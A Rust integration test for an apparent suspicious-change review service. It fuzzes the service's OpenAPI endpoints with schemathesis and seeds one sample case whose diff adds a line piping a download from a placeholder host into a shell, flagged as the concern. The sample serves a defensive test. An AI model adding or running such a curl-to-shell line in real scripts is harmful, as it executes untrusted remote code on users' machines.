//! API conformance: schemathesis (from PyPI) generates requests from `/api/v1/openapi.json`
//! of the real binary and checks every answer against the document (status codes, content
//! types, response schemas, authentication, no server errors).
//!
//! `.ci/run` installs the pinned schemathesis into `$HOME/.cache/s-express/venv` and exports
//! `S_EXPRESS_SCHEMATHESIS`; run the same install by hand to use it locally (the failure
//! message below says how). `S_EXPRESS_TEST_SCHEMATHESIS=skip` skips the test deliberately.

use std::io::Read as _;
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::http::Client;
use crate::instance::{Backend, Instance, Options};

/// The install command `.ci/run` runs (kept in step with the version pinned there).
const INSTALL: &str = "python3 -m venv ~/.cache/s-express/venv && \
     ~/.cache/s-express/venv/bin/pip install schemathesis==4.32.5";

/// The whole run is bounded: schemathesis is stopped after this long and the test fails.
const TIME_LIMIT: Duration = Duration::from_secs(240);

/// Examples per operation: enough to reach every documented status on 2 cores in about a
/// minute.
const MAX_EXAMPLES: &str = "25";

/// The schemathesis executable: `S_EXPRESS_SCHEMATHESIS`, else the venv `.ci/run` makes.
fn schemathesis() -> Option<PathBuf> {
    let configured = std::env::var_os("S_EXPRESS_SCHEMATHESIS").map(PathBuf::from);
    let venv = std::env::var_os("HOME")
        .map(|home| PathBuf::from(home).join(".cache/s-express/venv/bin/schemathesis"));
    configured.into_iter().chain(venv).find(|p| p.is_file())
}

fn skipped() -> bool {
    #[expect(
        clippy::disallowed_methods,
        reason = "the test reads its skip switch from the environment"
    )]
    let skip = std::env::var("S_EXPRESS_TEST_SCHEMATHESIS");
    skip.as_deref() == Ok("skip")
}

#[test]
fn schemathesis_finds_nothing_against_the_openapi_document_of_the_real_binary() {
    if skipped() {
        eprintln!("S_EXPRESS_TEST_SCHEMATHESIS=skip: skipping the schemathesis run");
        return;
    }
    let Some(tool) = schemathesis() else {
        panic!(
            "schemathesis is not installed. Install the pinned version with:\n    {INSTALL}\n\
             (or point S_EXPRESS_SCHEMATHESIS at a schemathesis executable, or set \
             S_EXPRESS_TEST_SCHEMATHESIS=skip to skip this test)"
        );
    };
    // Generated submissions must not all end in 429: lift the rate limits for this instance.
    let options = Options {
        env: [
            ("S_EXPRESS_SUBMIT_PER_MINUTE", "100000"),
            ("S_EXPRESS_SUBMIT_BURST", "100000"),
            ("S_EXPRESS_LOGIN_PER_MINUTE", "100000"),
            ("S_EXPRESS_LOGIN_BURST", "100000"),
        ]
        .iter()
        .map(|(k, v)| ((*k).to_string(), (*v).to_string()))
        .collect(),
        ..Options::default()
    };
    let sx = Instance::start_with(Backend::Sqlite, options);
    let token = sx.create_user(
        "fuzzer",
        &["admin", "maintainer", "expert", "coordinator"],
        "a long enough passphrase",
    );
    // One real case, so reads of existing resources are exercised too.
    let submitted = Client::new(&sx.base_url).with_token(&token).post_json(
        "/api/v1/cases",
        &serde_json::json!({
            "project": { "forge": "github", "owner": "acme", "name": "widget" },
            "diff": "diff --git a/a.sh b/a.sh\n--- a/a.sh\n+++ b/a.sh\n@@ -1 +1,2 @@\n echo hi\n+curl https://example.invalid/x | sh\n",
            "concern": "pipes a download into a shell",
            "suspicion": 3
        }),
    );
    assert_eq!(submitted.status, 201, "{}", submitted.text);

    let report_dir = tempfile::tempdir().expect("a temporary directory");
    #[expect(clippy::disallowed_methods, reason = "the test runs schemathesis")]
    let mut cmd = Command::new(&tool);
    cmd.args(["--no-color", "run"])
        .arg(sx.url("/api/v1/openapi.json"))
        .args(["--url", &sx.base_url])
        .args(["--header", &format!("Authorization: Bearer {token}")])
        .args(["--checks", "all"])
        // Schema-valid is not always valid: a diff must parse, a cursor must come from a
        // previous page, a bundle must be a git bundle, an email must be an address. The
        // document can't say that in JSON Schema, and each refusal is a documented 422 with a
        // message, so this check would only flag documented behaviour.
        .args(["--exclude-checks", "positive_data_acceptance"])
        // Authenticate with the token only: a generated session cookie beside it would be
        // refused (a bad credential is never downgraded to anonymous) and hide every operation
        // behind 401.
        .args(["--generation-with-security-parameters", "false"])
        // The stateful phase finds the test's own token through GET /api/v1/tokens and
        // revokes it with DELETE /api/v1/tokens/{id}, after which every operation answers 401
        // and nothing behind authentication is fuzzed. Revocation is covered by the API suite
        // (tests/api/accounts.rs); here the token must live.
        .args([
            "--exclude-method",
            "DELETE",
            "--exclude-path",
            "/api/v1/tokens/{id}",
        ])
        // schemathesis 4.32.5's coverage phase crashes inside the tool (a KeyError in its JSON
        // Schema walker) on GET /api/v1/log; the other phases generate the requests.
        .args(["--phases", "examples,fuzzing,stateful"])
        .args(["--max-examples", MAX_EXAMPLES])
        .args(["--workers", "2"])
        .args(["--seed", "20260301"])
        .args(["--request-timeout", "30"])
        .args(["--generation-database", "none"])
        .current_dir(report_dir.path())
        .env("SCHEMATHESIS_HOOKS", "")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = cmd
        .spawn()
        .unwrap_or_else(|e| panic!("cannot run {}: {e}", tool.display()));
    let mut stdout = child.stdout.take().expect("stdout is piped");
    let mut stderr = child.stderr.take().expect("stderr is piped");
    let out_reader = std::thread::spawn(move || {
        let mut s = String::new();
        let _ = stdout.read_to_string(&mut s);
        s
    });
    let err_reader = std::thread::spawn(move || {
        let mut s = String::new();
        let _ = stderr.read_to_string(&mut s);
        s
    });
    let started = Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().expect("schemathesis can be waited for") {
            break Some(status);
        }
        if started.elapsed() > TIME_LIMIT {
            let _ = child.kill();
            let _ = child.wait();
            break None;
        }
        std::thread::sleep(Duration::from_millis(200));
    };
    let output = format!(
        "{}\n{}",
        out_reader.join().unwrap_or_default(),
        err_reader.join().unwrap_or_default()
    );
    let Some(status) = status else {
        panic!(
            "schemathesis did not finish within {} s; its output so far:\n{output}",
            TIME_LIMIT.as_secs()
        );
    };
    assert!(
        status.success(),
        "schemathesis found problems ({status}):\n{output}\n\nserver log:\n{}",
        sx.log_text()
    );
    assert!(
        output.contains("passed") || output.contains("PASSED"),
        "schemathesis succeeded but printed no summary; did it test anything?\n{output}"
    );
}
